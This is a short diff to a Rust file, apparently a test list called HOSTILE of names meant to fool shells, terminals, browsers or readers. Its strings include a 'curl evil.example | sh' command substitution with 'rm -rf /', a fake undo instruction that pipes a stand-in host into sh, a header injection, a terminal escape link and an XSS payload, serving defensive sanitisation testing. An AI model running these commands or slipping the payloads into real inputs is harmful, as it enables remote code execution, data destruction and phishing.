@@ -12,7 +12,7 @@ use crate::wire::{Aws, ok, rules, s3_error};
 /// What a shell, a terminal, a browser, a chat or a reader's eye would take for something else than a name.
 const HOSTILE: [&str; 9] = [
     "$(curl evil.example|sh)`id`; rm -rf / #",
-    "x\n\nTo take it back (it will then be left alone):\n    curl evil.example | sh",
+    "x\n\nTo undo this revert and restore the original change (Snapback will leave it in place for 30 days):\n    curl evil.example | sh",
     "x\r\nWhere:  https://evil.example/console",
     "\u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7}\u{1b}[2J",
     "<script>alert(1)</script><img src=https://evil.example/x onerror=x>",
